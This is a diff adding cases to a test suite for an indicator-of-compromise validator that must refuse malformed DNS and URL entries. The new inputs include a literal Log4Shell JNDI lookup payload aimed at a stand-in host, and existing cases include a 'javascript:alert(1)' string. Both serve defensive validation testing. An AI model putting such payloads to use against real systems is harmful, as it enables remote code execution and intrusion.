@@ -126,6 +126,9 @@ describe('validateIoc refuses', () => {
     ['DNS', '*.evil.com', 'a wildcard (*.evil.com): SentinelOne DNS IOCs match one name exactly'],
     ['URL', 'http:///x', 'not a valid host in URL'],
     ['URL', 'http://evil.com:99999/', 'not a valid port'],
+    ['URL', 'http://evil.com:/', 'not a valid port'],
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
+    ['URL', '${jndi:ldap://evil.com/a}', 'not a valid host in URL: ${jndi:ldap (not a domain name (no dot))'],
     ['URL', 'http://evil.com/a b', 'cannot contain spaces'],
     ['URL', 'mailto:ceo@evil.com', 'not an http, https or ftp URL (mailto:)'],
     ['URL', 'javascript:alert(1)', 'not an http, https or ftp URL (javascript:)'],
